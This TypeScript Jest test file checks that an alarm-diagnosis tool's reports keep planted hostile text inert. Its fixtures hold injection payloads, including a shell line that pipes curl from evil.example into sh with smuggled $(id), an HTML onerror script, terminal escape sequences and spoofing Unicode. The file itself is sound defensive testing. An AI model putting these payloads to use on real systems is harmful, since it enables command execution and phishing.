import type { X509Certificate } from 'node:crypto';
import { beforeAll, describe, expect, test } from '@jest/globals';
import * as x509 from '@peculiar/x509';
import { diagnose } from '../lambda/diagnose.ts';
import { resolveOrigin } from '../lambda/gather/dns.ts';
import type { Certificate } from '../lambda/model/certificate.ts';
import type { Evidence, OriginEvidence } from '../lambda/model/evidence.ts';
import type { Answer, HandshakeOutcome, Resolution } from '../lambda/model/handshake.ts';
import { parseAlarms } from '../lambda/parse-alarm.ts';
import { fallback } from '../lambda/report/fallback.ts';
import { ascii } from '../lambda/report/printable.ts';
import { report } from '../lambda/report/report.ts';
import { rules } from '../lambda/rules/index.ts';
import { readCertificate } from '../lambda/tls/certificate.ts';
import { findPath, parseAnchors } from '../lambda/tls/path.ts';
import { printable as bytesShown } from '../lambda/tls/text.ts';
import { paint } from '../terminal/colour.ts';
import { drawing } from '../terminal/drawing.ts';
import { present } from '../terminal/present.ts';
import { detail, eventBridge } from './alarm-event/events.ts';
import {
  behavior,
  certificate,
  completedDial,
  distribution,
  EXAMINED_AT,
  failedDial,
  handshakes,
  instance,
  listener,
  loadBalancer,
  managedCertificate,
  networkInterface,
  notApplicable,
  ORIGIN,
  observed,
  originEvidence,
  target,
  trusted,
} from './evidence.ts';
import { gates, group, inbound } from './security-groups.ts';
import { type Issued, issue, newKeys } from './tls/authority.ts';

/** What people plant. `FORGED` stands where a line of its own would be read as ours. */
const WORDS: Readonly<Record<string, string>> = {
  nul: 'a\u0000b',
  newlines: 'a\nFORGED b\r\nFORGED c\u2028FORGED d\u0085FORGED e\u000bFORGED',
  'terminal escapes': '\u001b[31mred\u001b[2J\u009b1A\u0007',
  'a terminal link': '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  'right-to-left': '\u202egpj.exe\u2066x\u200fy\u061c',
  'zero-width': 'a\u200bb\u200d\ufeff\u2060c\u00ad',
  surrogate: 'a\ud83db',
  markdown: '**b** [sign in](https://evil.example) `$(id)` # x | ![i](https://evil.example/i.png)',
  html: '<img src=x onerror=alert(1)><!-- <a href="https://evil.example">sign in</a>',
  mentions: '<!channel> <!here|x> <@U012AB> <#C012> <https://evil.example|sign in> @everyone @here @channel',
  'wide mentions': '\uff1c!channel> \uff20everyone <\u200b!here> ',
  'ten kilobytes': 'x'.repeat(10_240),
  'ten kilobytes of escapes': '\u001b\n'.repeat(5_120),
  'a forged heading': `${'x'.repeat(70)} WHAT TO DO ${'y'.repeat(70)} RULED OUT ${'z'.repeat(70)}`,
  shell: "'; curl evil.example | sh #`id`$(id)",
};

/** No reader is ever to meet these: controls, marks that hide or turn text, breaks of lines that are not ours. */
const UNSEEN = /(?!\n)[\p{C}\p{Zl}\p{Zp}]|(?!\ufe0f)\p{Default_Ignorable_Code_Point}/u;

/** What chat programs act on. */
const MENTION = /<[!@#]|<[a-z][a-z0-9+.-]*:|@(everyone|here|channel)/i;

let keys: Issued['keys'];
beforeAll(async () => {
  keys = await newKeys();
});

type Chain = { readonly chain: readonly Certificate[]; readonly parsed: readonly X509Certificate[] };

/** Certificates that carry the word wherever one can, issued for real and read as the probe reads them. */
async function chainWith(word: string, notAfter: string, isOwn: boolean): Promise<Chain> {
  const text = Buffer.from(word).toString();
  const name = (cn: string) => new x509.Name([{ CN: [{ utf8String: cn }], O: [{ utf8String: text }] }]).toString();
  const issuer = await issue({ subject: name(`CA ${text}`), isAuthority: true, keys });
  const ascii7 = [...text].filter((one) => one <= '\u007f').join('');
  const leaf = await issue({
    subject: name(text),
    ...(isOwn ? {} : { issuer }),
    keys,
    notAfter,
    dnsNames: [ascii7, `${ascii7}.example.com`],
    issuerUrl: `http://ca.example/${ascii7}`,
  });
  const read = readCertificate(leaf.der, [ORIGIN]);
  if (!read) throw new Error('a certificate that can be issued can be read');
  return { chain: [read.certificate], parsed: [read.x509] };
}

const asAnswered = (word: string, status: number): Answer => ({
  kind: 'answered',
  target: target(),
  method: 'GET',
  path: `/${word}`,
  status,
  headers: { server: word, via: word, 'x-cache': word, 'x-powered-by': word, location: `https://${ORIGIN}/${word}` },
  tookMs: 3,
});

/** A name that points at names made of the word, the last of which is gone. */
async function danglingAt(word: string): Promise<Resolution> {
  const gone = () => Promise.reject(Object.assign(new Error('gone'), { code: 'ENOTFOUND' }));
  const resolver = {
    resolve4: gone,
    resolve6: gone,
    reverse: gone,
    resolveCname: (name: string) => (name === ORIGIN ? Promise.resolve([`${word}.example.net`]) : gone()),
    resolveCaa: gone,
    cancel: () => {},
  };
  return resolveOrigin(resolver, ORIGIN, 'ipv4', new AbortController().signal);
}

const EC2_NAME = 'ec2-203-0-113-7.eu-west-1.compute.amazonaws.com';

type Seen = Parameters<typeof originEvidence>[0];

const aliasRecord = (word: string) => ({ zoneId: word, zoneName: word, name: word, target: word });

/** Every way in which an origin can show the word, by where it stands. */
async function scenes(word: string): Promise<Record<string, Seen>> {
  const [expired, sound, own] = await Promise.all([
    chainWith(word, '2026-11-01T00:00:00Z', false),
    chainWith(word, '2027-11-01T00:00:00Z', false),
    chainWith(word, '2027-11-01T00:00:00Z', true),
  ]);
  const none = parseAnchors([]);
  const served = ({ chain, parsed }: Chain) => handshakes(completedDial({}, { chain, path: findPath(parsed, none) }));
  const failed = (outcome: HandshakeOutcome) => handshakes(failedDial(outcome));
  const onListener = { loadBalancer: observed(loadBalancer({ name: word })), listener: observed(listener()) };
  return {
    'an expired leaf': { handshakes: handshakes(completedDial({}, { chain: expired.chain, path: trusted([0]) })) },
    'another name': { handshakes: handshakes(completedDial({}, { chain: sound.chain, path: trusted([0]) })) },
    'a chain that stops short': { handshakes: served(sound) },
    'a leaf that signed itself': { handshakes: served(own) },
    'an unknown authority': {
      handshakes: handshakes(completedDial({}, { path: { kind: 'untrusted', anchor: word } })),
    },
    'a bad signature': {
      handshakes: handshakes(completedDial({}, { path: { kind: 'signature-invalid', at: 0, issuer: word } })),
    },
    'a banner': { handshakes: failed({ kind: 'not-tls', firstBytes: bytesShown(Buffer.from(word)) }) },
    'a banner that nobody escaped': { handshakes: failed({ kind: 'not-tls', firstBytes: word }) },
    'broken bytes': { handshakes: failed({ kind: 'malformed', what: word }) },
    'an alert': { handshakes: failed({ kind: 'alert', code: 40, description: word }) },
    'no route': { handshakes: failed({ kind: 'unreachable', reason: word }) },
    'a private address': { handshakes: failed({ kind: 'not-dialled', reason: word }) },
    'an answer 503': { answer: observed(asAnswered(word, 503)) },
    'a redirect': {
      answer: observed({ ...asAnswered(word, 301), headers: { location: `https://${ORIGIN}/`, server: word } }),
    },
    'an answer 200': { answer: observed(asAnswered(word, 200)) },
    'a dangling name': { resolution: observed(await danglingAt(word)), handshakes: notApplicable(word) },
    'a circle of names': {
      resolution: observed({ kind: 'failing', name: word, code: word, circle: [word, `x${word}`] }),
      handshakes: notApplicable(word),
    },
    "ACM's reason": {
      handshakes: handshakes(completedDial({}, { chain: [certificate({ notAfter: '2026-11-01T00:00:00Z' })] })),
      ...onListener,
      certificates: observed([
        managedCertificate({ failureReason: word, domainName: word, names: [word], status: word }),
      ]),
    },
    'an alias and who is found by it': {
      handshakes: handshakes(completedDial({}, { chain: [certificate({ notAfter: '2026-11-01T00:00:00Z' })] })),
      alias: observed({ records: [aliasRecord(word)], target: word }),
      loadBalancer: observed(
        loadBalancer({ name: word, foundBy: { kind: 'alias', record: aliasRecord(`*.${word}`) }, assumedRole: word }),
      ),
      listener: { status: 'unavailable', reason: word, permission: word, resource: word },
    },
    'a network interface': {
      handshakes: handshakes(completedDial({}, { chain: [certificate({ notAfter: '2026-11-01T00:00:00Z' })] })),
      networkInterfaces: observed([
        networkInterface({ id: word, region: word, description: word, instanceId: word, assumedRole: word }),
      ]),
    },
    'an instance that is stopped': {
      handshakes: failed({ kind: 'timed-out', phase: 'connect' }),
      instances: observed({
        found: [instance({ id: word, region: word, state: 'stopped', reason: word, address: word })],
        dialled: 1,
      }),
    },
    'a record that leads nowhere': {
      resolution: observed({ kind: 'not-found', name: word, cnames: [], at: word, why: 'no-address' }),
      handshakes: notApplicable(word),
      deadRecord: observed({
        ...{ kind: 'leads-nowhere', target: 'x-1.eu-west-1.elb.amazonaws.com', gone: word, namesake: word },
        records: [{ ...aliasRecord(word), set: { types: ['A'], alias: { zoneId: word, evaluatesHealth: true } } }],
      }),
    },
    'an address that nobody has': {
      resolution: observed({ kind: 'resolved', name: EC2_NAME, cnames: [EC2_NAME], addresses: [word], cut: 0 }),
      handshakes: failed({ kind: 'refused' }),
      unheld: observed({ addresses: [word], regions: [word], why: word }),
    },
    'a security group before an instance': {
      handshakes: failed({ kind: 'timed-out', phase: 'connect' }),
      securityGroups: observed(
        gates([inbound({ groupIds: [word] })], {
          region: word,
          groups: [group([inbound({ groupIds: [word] })], { id: word, name: word, vpcId: word })],
          carriers: [{ id: word, name: word }],
          before: { name: word, addresses: [word], dialled: 2 },
        }),
      ),
    },
    'nothing seen': { handshakes: { status: 'unavailable', reason: word, permission: word } },
  };
}

/** The alarm is parsed from an event that carries the word wherever people can write. */
function evidenceOf(word: string, seen: Seen): Evidence {
  const state = { value: 'ALARM', reason: word, timestamp: '2026-11-23T03:09:02.000+0000' };
  const event = eventBridge(detail(undefined, { alarmName: word, state }));
  const [alarm] = parseAlarms(event).records.flatMap(({ alarms }) => alarms);
  const origin: OriginEvidence = originEvidence(seen, { id: word, path: `/${word}` });
  const paths = [
    behavior({ pathPattern: `/${word}`, isDefault: false, targetOriginId: word }),
    behavior({ targetOriginId: word }),
  ];
  return {
    schemaVersion: 1,
    subject: { kind: 'distribution', id: 'E2EXAMPLE' },
    ...(alarm && { alarm }),
    examinedAt: EXAMINED_AT,
    distribution: observed(distribution({ aliases: [word], behaviors: paths, origins: [origin.origin] })),
    origins: [origin],
  };
}

/** The same where a tenant's word makes the origin, and stands in its name, its id and its domain. */
function ofTenant(word: string, evidence: Evidence): Evidence {
  const { distribution: of, origins } = evidence;
  if (of.status !== 'observed') return evidence;
  const ofTenants = { originId: word, template: `{{${word}}}.{{host}}`, tenantIds: [word] };
  const parameters = [{ name: 'host', value: word }];
  const tenant = { id: word, name: word, domains: [word], changedAt: word, parameters };
  const tenancy = { tenants: [tenant], defaults: [], unseen: [{ reason: word, permission: word }] };
  const made = origins.map((one) => ({ ...one, origin: { ...one.origin, id: `of ${word}`, ofTenants } }));
  const all = [...of.value.origins, ...made.map(({ origin }) => origin)];
  return { ...evidence, distribution: observed({ ...of.value, tenancy, origins: all }), origins: made };
}

/** Lines that only the message's own frame may begin with. */
const lineStarts = (text: string) =>
  text.split('\n').filter((line) => /^\W*FORGED/.test(line.replace(/^[\s>*-]+/, '')));

describe.each(Object.entries(WORDS))('%s', (_name, word) => {
  test('stays inert in the mail, its subject, the JSON and the terminal, wherever it is planted', async () => {
    const planted = Object.entries(await scenes(word)).flatMap(([scene, seen]): [string, Evidence][] => {
      const evidence = evidenceOf(word, seen);
      return [
        [scene, evidence],
        [`${scene}, of a tenant`, ofTenant(word, evidence)],
      ];
    });
    for (const [scene, evidence] of planted) {
      const diagnosis = diagnose(evidence, rules);
      const told = report(diagnosis, evidence);
      const shown = [true, false].flatMap((unicode) => {
        const style = { unicode, paint: paint(false) };
        return [drawing(diagnosis, evidence, style), present(diagnosis, evidence, told, style)];
      });
      const failed = fallback(evidence, new Error(word));
      const mails = [told, failed].flatMap(({ subject, text, json }) => [subject, text, json]);
      const outputs = [...mails, ascii(told.text), ...shown];
      for (const [where, output] of outputs.entries()) {
        const context = `${scene}, output ${where}: `;
        expect(context + (UNSEEN.exec(output)?.[0] ?? '')).toBe(context);
        expect(context + (MENTION.exec(output)?.[0] ?? '')).toBe(context);
      }
      expect(told.subject.length).toBeLessThan(100);
      expect(told.subject).toMatch(/^[ -~]+$/);
      expect(told.json.split('\n')).toHaveLength(1);
      expect(JSON.parse(told.json)).toEqual(JSON.parse(JSON.stringify(diagnosis)));
      expect(Buffer.byteLength(told.text)).toBeLessThanOrEqual(24 * 1024);
      expect(Math.max(...told.text.split('\n').map((line) => line.length))).toBeLessThanOrEqual(2_200);
      const headings = told.text.split('\n').filter((line) => /^[A-Z][A-Z ,]+$/.test(line));
      expect([scene, ...headings]).toEqual([scene, ...new Set(headings)]);
      expect([scene, ...lineStarts(told.text)]).toEqual([scene]);
      for (const one of shown.filter((_, index) => index % 2 === 0)) {
        expect(Math.max(...one.split('\n').map((line) => [...line].length))).toBeLessThanOrEqual(80);
        expect(one.split('\n').length).toBeLessThanOrEqual(24);
      }
      for (const value of Object.values(told.attributes)) expect(value).toMatch(/^[^\n]{1,100}$/u);
    }
  });
});

test('the scenes reach a finding of many rules, so that their words are held as well', async () => {
  const found = new Set<string>();
  for (const seen of Object.values(await scenes('plain'))) {
    const { conclusion, notices } = diagnose(evidenceOf('plain', seen), rules);
    const all = 'primary' in conclusion ? [conclusion.primary, ...conclusion.also, ...notices] : notices;
    for (const { ruleId } of all) found.add(ruleId);
  }
  expect(found.size).toBeGreaterThanOrEqual(14);
});
